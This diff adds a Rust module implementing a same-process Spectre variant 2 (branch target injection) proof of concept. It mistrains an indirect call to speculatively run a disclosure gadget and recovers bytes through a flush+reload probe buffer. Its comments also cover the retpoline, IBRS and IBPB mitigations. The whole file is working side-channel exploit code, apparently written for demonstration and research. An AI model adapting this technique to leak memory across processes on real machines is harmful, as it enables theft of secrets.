@@ -0,0 +1,118 @@
+//! Spectre variant 2, branch target injection. The branch target buffer
+//! learns where an indirect call goes from calls that went to a disclosure
+//! gadget, and keeps predicting the gadget once the call's target has been
+//! switched to a function that does nothing, so the gadget runs
+//! speculatively on the arguments of the benign call and leaks the byte it
+//! is pointed at through the probe buffer.
+//!
+//! Training and attack here share a process and a call site, the simplest
+//! setting for the attack. Across processes or privilege levels, the
+//! training has to alias the victim's branch in the BTB instead, which
+//! IBRS, IBPB and retpolines are designed to prevent.
+
+use std::cell::RefCell;
+use std::io;
+
+use cache::flush;
+use channel::Channel;
+use covert::CovertChannel;
+use probe_buf::ProbeBuffer;
+use reader::{ByteGuess, FlushReload, TIMINGS_PER_GUESS};
+use receiver::Receiver;
+
+// calls through the gadget before each benign one, to keep the BTB trained
+const TRAINING_CALLS: usize = 6;
+
+// attacks voted on per byte, each decoded from TIMINGS_PER_GUESS timings
+const ROUNDS: usize = 16;
+
+type Target = unsafe fn(&FlushReload, *const u8);
+
+// the disclosure gadget: encodes the byte its argument points at
+#[inline(never)]
+unsafe fn gadget(channel: &FlushReload, addr: *const u8) {
+    channel.encode(0, addr.read_volatile())
+}
+
+// the function the attacked call really goes to
+#[inline(never)]
+unsafe fn benign(_channel: &FlushReload, _addr: *const u8) {}
+
+// the indirect call, the one call site both training and attack go through.
+// its target is loaded from memory, so flushing it leaves the BTB's
+// prediction running for as long as the load takes
+#[inline(never)]
+unsafe fn call_indirect(target: *const Target, channel: &FlushReload, addr: *const u8) {
+    (target.read_volatile())(channel, addr)
+}
+
+/// Reads memory of the calling process by steering a mistrained indirect
+/// call to a disclosure gadget, receiving through a page per value probe
+/// buffer.
+pub struct BranchTargetInjection {
+    receiver: Receiver,
+    // the call's target. boxed, away from the state the attack loop uses,
+    // so that flushing it leaves that cached
+    target: RefCell<Box<Target>>,
+    // what the gadget leaks while training. a fixed byte, so training only
+    // ever caches one line of the probe buffer, which prepare flushes again
+    training_byte: Box<u8>,
+}
+
+impl BranchTargetInjection {
+    /// Allocates the probe buffer and calibrates the cache hit threshold.
+    pub fn new() -> io::Result<BranchTargetInjection> {
+        let channel = Channel::Page;
+        let probe_buf = ProbeBuffer::private(channel.buf_len(), false)?;
+        let receiver = Receiver::new(probe_buf, channel);
+        Ok(BranchTargetInjection {
+            receiver,
+            target: RefCell::new(Box::new(benign as Target)),
+            training_byte: Box::new(0),
+        })
+    }
+
+    /// The probe buffer the attack leaks through, and its calibration.
+    pub fn receiver(&self) -> &Receiver {
+        &self.receiver
+    }
+
+    /// Leaks the byte at `addr`, which has to be mapped in this process to
+    /// leak anything, along with how confident the guess is.
+    pub fn guess_byte(&self, addr: *const u8) -> ByteGuess {
+        let mut order = self.receiver.order();
+        let mut channel = self.receiver.channel(&mut order);
+        let mut target_ref = self.target.borrow_mut();
+        let target: &mut Target = &mut **target_ref;
+        let training_addr = &*self.training_byte as *const u8;
+
+        let mut hit_counts = [0usize; 256];
+        for _ in 0..ROUNDS {
+            for _ in 0..TIMINGS_PER_GUESS {
+                unsafe {
+                    *target = gadget;
+                    for _ in 0..TRAINING_CALLS {
+                        call_indirect(target, &channel, training_addr);
+                    }
+                    channel.prepare(1);
+                    *target = benign;
+                    flush(target as *const Target as *const u8);
+                    call_indirect(target, &channel, addr);
+                    channel.receive(1);
+                }
+            }
+            if let Some(byte) = channel.decode(1)[0] {
+                hit_counts[byte as usize] += 1
+            }
+        }
+        ByteGuess::from_hit_counts(&hit_counts, ROUNDS)
+    }
+
+    /// Leaks `len` bytes starting at `addr`, along with how confident each
+    /// guess is.
+    pub fn guess_range(&self, addr: *const u8, len: usize) -> Vec<ByteGuess> {
+        (0..len)
+            .map(|i| self.guess_byte(addr.wrapping_add(i)))
+            .collect()
+    }
+}